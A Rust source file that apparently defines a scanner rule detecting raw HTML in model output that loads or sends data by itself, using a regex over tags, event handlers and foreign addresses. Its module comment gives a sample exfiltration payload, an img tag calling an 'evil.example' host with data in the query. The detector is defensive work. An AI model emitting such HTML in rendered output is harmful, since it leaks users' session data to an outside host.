//! # What it finds
//! Raw HTML that loads or sends something by itself: scripts, frames, forms, images and styles with an address,
//! event handlers.
//!
//! # Why it matters
//! A client that renders HTML runs it in the user's session.
//!
//! # Example
//! `<img src="https://evil.example/p.png?d=...">`
//!
//! # Limits and sources
//! HTML in a code block is text for people; the rule cannot tell and scores it as suspicious where no foreign
//! address is in it.

use super::carry;
use crate::finding::Evidence;
use crate::rule::{Anchor, Candidate, Exact, Family, Hit, Matcher, Rule};

/// See the [module](self).
pub const RULE: Rule = Rule {
    id: "EX003",
    name: "raw-html",
    family: Family::Link,
    category: "link.html",
    tags: &["owasp:LLM05", "owasp-agentic:ASI02", "atlas:AML.T0077"],
    matcher: Matcher::Exact(Exact {
        pattern: concat!(
            r#"(?i)<(?:img|iframe|script|form|object|embed|link|meta|base|svg|video|audio|source|input|body|details|button|a)"#,
            r#"[\s/][^<>]{0,1024}(?:(?:src|srcset|href|action|formaction|data|poster|background)\s?=\s?["']?(?:(?:https?:)?//|javascript:|data:text/html)[^\s"'<>]{1,1024}|on[a-z]{3,20}\s?=|http-equiv\s?=\s?["']?refresh)"#,
            r#"|<script[\s>]|url\(\s?["']?(?:https?:)?//[^\s"')]{1,1024}"#
        ),
        anchor: Anchor::Literals(&[
            "<img", "<iframe", "<script", "<form", "<object", "<embed", "<link", "<meta", "<base", "<svg", "<video",
            "<audio", "<source", "<input", "<body", "<details", "<button", r"<a\b", "url(",
        ]),
        longest: 2200,
        verify,
    }),
};

fn verify(candidate: &Candidate<'_>) -> Option<Hit> {
    let found = candidate.matched().to_ascii_lowercase();
    let payload = found.contains("//").then(|| carry::payload(carry::address_in(candidate.matched()))).flatten();
    let is_active = found.starts_with("<script")
        || found.starts_with("<iframe")
        || found.starts_with("<object")
        || found.contains("javascript:");
    if let Some(hit) = payload {
        return Some(Hit { score: hit.score.max(0.85), ..hit });
    }
    if found.starts_with("<a") && !is_active && !found.contains(" on") {
        return None;
    }
    Some(Hit::new(if is_active { 0.8 } else { 0.6 }, Evidence::Pattern))
}
